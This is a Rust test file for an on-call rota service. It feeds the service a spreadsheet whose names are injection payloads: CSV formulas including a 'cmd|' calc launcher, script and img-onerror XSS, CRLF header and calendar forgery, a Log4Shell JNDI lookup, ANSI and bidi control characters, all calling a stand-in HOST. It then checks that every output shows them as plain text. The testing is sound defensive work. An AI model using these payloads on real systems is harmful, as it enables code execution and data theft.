//! One rota whose every cell is an attack on somebody who reads it: put through the real service to every place where a word
//! of it goes out, and read there by a reader that is not ours. It must come out as text, or not at all.

use super::super::line::{told, until_over};
use super::super::logs;
use super::super::stage::{self, PATIENCE, wednesday};
use super::super::texts::texted;
use chrono::TimeDelta;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts, states::RawKind};
use icalendar::{Calendar, CalendarComponent, Component as _};
use rotaline::access::Role;
use rotaline::app::Stage;
use rotaline::call::{HotlineName, Outcome};
use rotaline::config::Source;
use rotaline::exports::{Numbers, Rows, Window, table};
use rotaline::roster::{Responder, masked};
use rotaline::simulator::{CallerHabit, Delay, Habit, Sound};
use rotaline::web::FeedLinks;
use std::cell::RefCell;
use std::path::Path;
use tokio::net::TcpListener;

/// Whoever fetches this is heard.
const HOST: &str = "HOST";

/// So many levels a rota has at most.
const LEVELS: usize = 9;

/// What each of them is after: a formula, a script, another document, another header, another line, another order. The first
/// ones are on call now.
const NAMES: [&str; 18] = [
    "=HYPERLINK(\"http://HOST/formula\") Ann",
    "Hal\r\nhttps://HOST/a.mp3\r\nHal",
    "<script>fetch('http://HOST/script')</script> Dee",
    "Gus</Say><Dial>Gus</Dial><Play>http://HOST/play</Play>",
    "Ida\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:forged",
    "Kim <!channel> <http://HOST/chat|click>",
    "Leo\u{1b}[2J\u{1b}[31m\u{7}",
    "Mia\u{202e}gnp.exe\u{2066}",
    "Ned\u{8}\u{85}\u{2028}ERROR forged",
    "@SUM(A1) Ben",
    "\t=cmd|' /C calc'!A0 Cyd",
    "\"><img src=http://HOST/image onerror=alert(1)> Eve",
    "' onmouseover='alert(1) Fay",
    "Joe\r\nBcc: everybody@example.org\r\n\r\nforged",
    "Oda\\\",\"phone\":\"forged",
    "Pia\"} 1\nrotaline_forged{x=\"",
    "${jndi:ldap://HOST/x} {{Quin}} %s %n",
    "https://HOST/tom.mp3",
];

fn number(place: usize) -> String {
    format!("+614915701{:02}", place + 40)
}

fn lab() -> HotlineName {
    HotlineName("lab".to_owned())
}

/// All of them are on call, each on a level of his own, one half after the other; and what nobody knows comes after them.
fn write(folder: &Path, host: &str) {
    let names: Vec<String> = NAMES.iter().map(|name| name.replace(HOST, host)).collect();
    let tab = |name: &str, rows: &[Vec<String>]| {
        let mut writer = csv::Writer::from_path(folder.join(name).with_extension("csv")).unwrap();
        let width = rows.iter().map(Vec::len).max().unwrap();
        for row in rows {
            let mut row = row.clone();
            row.resize(width, String::new());
            writer.write_record(row).unwrap();
        }
        writer.flush().unwrap();
    };
    let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
    let mut contacts = vec![words(&["Name", "Phone", "Status"])];
    for (place, name) in names.iter().enumerate() {
        contacts.push(vec![name.clone(), number(place), String::new()]);
    }
    contacts.push(vec![
        "=1+1".to_owned(),
        "<script>0</script>".to_owned(),
        format!("http://{host}/status"),
    ]);
    tab("Contacts", &contacts);
    let levels = (1..=LEVELS).map(|level| format!("L{level}"));
    let head = [words(&["From", "Until"]), levels.collect()].concat();
    let row = |from: &str, until: &str, names: Vec<String>| [words(&[from, until]), names].concat();
    // Lines of a cell are names of their own: whoever is meant stands on one.
    let meant: Vec<String> = names.iter().map(|name| name.replace("\r\n", "  ").replace('\n', " ")).collect();
    let strangers = names[..LEVELS].iter().map(|name| format!("nobody knows {name}")).collect();
    tab(
        "Rota",
        &[
            head,
            row("2026-03-01 00:00", "2026-03-05 00:00", meant[..LEVELS].to_vec()),
            row("2026-03-05 00:00", "2026-03-20 00:00", meant[LEVELS..].to_vec()),
            row("2026-03-20 00:00", "2026-03-21 00:00", strangers),
        ],
    );
    // A further table of contacts, in a tab with a name of its own.
    tab(
        "=1+1 <i>'\u{202e}\u{1b}[31m tab",
        &[
            words(&["Name", "Phone"]),
            words(&["Una", "<b>12</b>"]),
            words(&["Vic", "\u{202e}0491\u{1b}"]),
        ],
    );
    let settings = [
        ["Setting", "Value"],
        ["Time zone", "Australia/Melbourne"],
        ["Country for phone numbers", "AU"],
        ["=HYPERLINK(\"http://HOST/s\")", "<script>1</script>"],
        ["Last resort", "<b>nobody</b>"],
    ];
    let settings: Vec<_> = settings
        .iter()
        .map(|row| words(row).iter().map(|cell| cell.replace(HOST, host)).collect())
        .collect();
    tab("Settings", &settings);
}

async fn set(folder: &Path) -> Stage {
    let folder = folder.to_owned();
    stage::set_with(move |setting| setting.rota = vec![Source::File(folder)]).await
}

/// The names as they are after reading.
async fn on_call(stage: &Stage) -> Vec<Responder> {
    let people = stage.rehearsal().on_call().await.unwrap();
    assert_eq!(people.len(), LEVELS, "{people:?}");
    people
}

/// What no reader may ever come across.
fn assert_is_text(what: &str, text: &str) {
    let turns = |c: char| matches!(c, '\u{61c}' | '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}');
    let bad = |c: char| turns(c) || c.is_control() && !matches!(c, '\n' | '\r' | '\t');
    let at = text.find(bad);
    assert_eq!(
        at,
        None,
        "{what}: {:?}",
        at.map(|at| text[at..].chars().take(40).collect::<String>())
    );
}

async fn get(stage: &Stage, path: &str) -> String {
    stage::signed_in(stage, Role::Operator).await.page(path).await
}

/// What a browser makes of a page: its tags, and its text.
#[derive(Default)]
struct Seen {
    tags: RefCell<Vec<Tag>>,
    text: RefCell<String>,
}

impl TokenSink for Seen {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => {
                let raw = match (&*tag.name, tag.kind) {
                    ("script", TagKind::StartTag) => TokenSinkResult::RawData(RawKind::ScriptData),
                    ("style", TagKind::StartTag) => TokenSinkResult::RawData(RawKind::Rawtext),
                    ("title" | "textarea", TagKind::StartTag) => TokenSinkResult::RawData(RawKind::Rcdata),
                    _ => TokenSinkResult::Continue,
                };
                self.tags.borrow_mut().push(tag);
                return raw;
            }
            Token::CharacterTokens(text) => self.text.borrow_mut().push_str(&text),
            Token::DoctypeToken(_) | Token::CommentToken(_) | Token::NullCharacterToken | Token::EOFToken | Token::ParseError(_) => {}
        }
        TokenSinkResult::Continue
    }
}

fn assert_page(what: &str, html: &str, names: &[String]) {
    assert_is_text(what, html);
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from_slice(html));
    let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    let seen = tokenizer.sink;
    for tag in seen.tags.borrow().iter() {
        let name = &*tag.name;
        assert!(
            !["img", "iframe", "object", "embed", "base", "b"].contains(&name),
            "{what}: {tag:?}"
        );
        for attribute in &tag.attrs {
            let (key, value) = (&*attribute.name.local, &*attribute.value);
            assert!(!key.starts_with("on"), "{what}: {tag:?}");
            let leads = ["src", "href", "action", "formaction"].contains(&key);
            assert!(
                !leads || value.starts_with('/') || value.starts_with('#') || value.is_empty(),
                "{what}: {tag:?}"
            );
        }
        assert!(
            name != "script" || tag.kind == TagKind::EndTag || tag.attrs.iter().any(|attribute| &*attribute.name.local == "src"),
            "{what}: a script of the page's own"
        );
    }
    let text = seen.text.borrow();
    for name in names {
        assert!(text.contains(name.as_str()), "{what} does not say {name:?}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_hostile_rota_is_text_on_the_page_in_json_tables_and_calendars() {
    let ear = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &ear.local_addr().unwrap().to_string());
    let stage = set(folder.path()).await;
    let people = on_call(&stage).await;
    let names: Vec<String> = people.iter().map(|who| who.name.clone()).collect();
    for name in &names {
        assert_is_text("a name", name);
        assert!(!name.contains(['\n', '\r', '\t']), "{name:?}");
    }
    let shown: Vec<String> = names.iter().map(|name| masked(name)).collect();
    assert_page("the page", &get(&stage, "/").await, &shown);

    let json = get(&stage, "/api/v1/hotlines/lab/on-call").await;
    assert_is_text("on-call", &json);
    let read: serde_json::Value = serde_json::from_str(&json).unwrap();
    let shown: Vec<&str> = read["levels"]
        .as_array()
        .unwrap()
        .iter()
        .map(|level| level["responders"][0]["name"].as_str().unwrap())
        .collect();
    assert_eq!(shown, names);
    for path in ["duties", "diagnostics", "versions"] {
        let json = get(&stage, &format!("/api/v1/hotlines/lab/{path}")).await;
        assert_is_text(path, &json);
        serde_json::from_str::<serde_json::Value>(&json).unwrap();
    }

    let rota = stage.service().store().rota(&lab()).await.unwrap().unwrap();
    let window = Window {
        from: wednesday(),
        until: wednesday() + TimeDelta::days(10),
    };
    let written = table(&Rows::of(&rota.roster, window, Numbers::InFull, 1_000).rows).unwrap();
    assert_table("the duties", &written, NAMES.len());

    let feeds = FeedLinks::open(stage.service().store()).await.unwrap();
    let everybody = rota.roster.contacts.iter().map(|who| Some(who.name.as_str()));
    assert!(everybody.len() >= NAMES.len());
    for whose in std::iter::once(None).chain(everybody) {
        let path = feeds.path(&lab(), whose);
        assert_calendar(&get(&stage, &path).await);
    }
    nobody_came(&ear).await;
    stage.strike().await;
}

fn assert_table(what: &str, written: &str, rows: usize) {
    assert_is_text(what, written);
    let mut reader = csv::Reader::from_reader(written.as_bytes());
    let records: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(records.len(), rows, "{what}");
    for cell in records.iter().flatten() {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n']),
            "{what}: {cell:?} is computed"
        );
        assert!(!cell.contains(['\n', '\r']), "{what}: {cell:?}");
    }
}

fn assert_calendar(written: &str) {
    assert_is_text("a calendar", written);
    let calendar: Calendar = written.parse().unwrap();
    for event in &calendar.components {
        let CalendarComponent::Event(event) = event else { continue };
        assert_ne!(event.get_summary(), Some("forged"));
        assert_eq!(event.property_value("ATTACH"), None);
    }
    let lines = written.split("\r\n").filter(|line| line.starts_with("SUMMARY:forged")).count();
    assert_eq!(lines, 0, "{written}");
}

/// Nobody has fetched anything that a cell says.
async fn nobody_came(ear: &TcpListener) {
    let came = tokio::time::timeout(std::time::Duration::from_millis(300), ear.accept()).await;
    assert!(came.is_err(), "somebody fetched an address out of a sheet");
}

/// On one thread, whose log is kept: everybody is rung, the last one takes it, and the caller hears when he leaves.
#[tokio::test]
async fn a_hostile_rota_is_text_on_the_telephone_in_texts_and_in_the_log() {
    let ear = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let folder = tempfile::tempdir().unwrap();
    write(folder.path(), &ear.local_addr().unwrap().to_string());
    logs::listen();
    let stage = set(folder.path()).await;
    let people = on_call(&stage).await;
    let names: Vec<String> = people.iter().map(|who| who.name.clone()).collect();
    // The one who would be played to the caller as an address takes the call and leaves it.
    let after = Delay::millis(1_500);
    let takes = |who: &Responder| who.name.starts_with("Hal");
    let habits = people.iter().map(|who| {
        let habit = if takes(who) {
            Habit::Accepts {
                after,
                talk: Some(Delay::seconds(8)),
            }
        } else {
            Habit::Declines { after }
        };
        (who.clone(), habit)
    });
    let mut facts = stage.service().store().subscribe();
    let call = stage.rehearsal().ring(habits.collect(), CallerHabit::default()).await.unwrap();
    let outcome = tokio::time::timeout(PATIENCE, until_over(&mut facts)).await.unwrap();
    assert_eq!(outcome, Outcome::Served);
    let simulator = stage.rehearsal().simulator();
    tokio::time::timeout(PATIENCE, simulator.until(|network| network.leftovers().is_empty()))
        .await
        .unwrap();
    simulator.look(|network| {
        assert_eq!(network.faults(), [], "every document is as the carrier wants it");
        let heard = network.sids().into_iter().flat_map(|sid| network.heard(sid).to_vec());
        for heard in heard {
            if let Sound::Music(address) = &heard.what {
                assert!(address.ends_with("/twilio/media/hold.wav"), "{address} is fetched and played");
            }
        }
    });
    let hal = names.iter().find(|name| name.starts_with("Hal")).unwrap();
    let caller = told(&stage, super::super::line::CALLER);
    assert!(
        caller.iter().any(|words| words.starts_with(&format!("{hal} has left the call"))),
        "{caller:?}"
    );

    let who = texted(&stage, people[0].phone.address(), "WHO").await;
    assert_is_text("a text", &who);
    assert!(!who.contains(['\n', '\r']), "{who:?}");

    let written = get(&stage, "/api/v1/hotlines/lab/calls.csv").await;
    let story = stage.service().store().story(call).await.unwrap();
    assert_table("the calls", &written, story.len());
    assert_is_text("the calls", &get(&stage, "/api/v1/hotlines/lab/calls.json").await);
    assert_page("the call's page", &get(&stage, &format!("/calls/{call}")).await, &[]);
    stage.strike().await;

    let log = logs::heard();
    assert_is_text("the log", &log);
    assert!(log.contains(hal.as_str()), "{log}");
    for line in log.lines() {
        assert!(line.starts_with("20") && line.contains(" rotaline"), "a forged line: {line:?}");
    }
    nobody_came(&ear).await;
}
